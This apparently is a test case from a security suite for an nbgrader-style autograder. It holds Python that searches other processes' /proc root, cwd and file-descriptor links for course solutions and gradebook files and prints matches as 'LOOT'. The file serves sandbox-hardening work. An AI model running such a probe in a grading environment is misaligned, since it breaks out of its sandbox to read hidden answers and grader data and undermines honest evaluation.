"""Go through /proc/PID/root, cwd and fd of other processes to their files.

class: read-course
expect: graded
"""

EXTRA = [
    """import glob
import os

names = ("course", "source", "gradebook.db", "nbgrader_config.py", "submitted")
for folder in [f"/proc/{os.getppid()}", "/proc/1", *glob.glob("/proc/[0-9]*")]:
    for door in ("root", "cwd", "root/proc/1/root"):
        try:
            if os.stat(f"{folder}/{door}").st_ino == os.stat("/").st_ino:
                continue
            inside = os.listdir(f"{folder}/{door}")
        except OSError:
            continue
        if set(inside) & set(names):
            print("LOOT:", folder, door, sorted(set(inside) & set(names)))
    for fd in glob.glob(f"{folder}/fd/*"):
        try:
            if os.path.isdir(fd) and set(os.listdir(fd)) & set(names):
                print("LOOT:", fd, os.readlink(fd))
        except OSError:
            pass"""
]
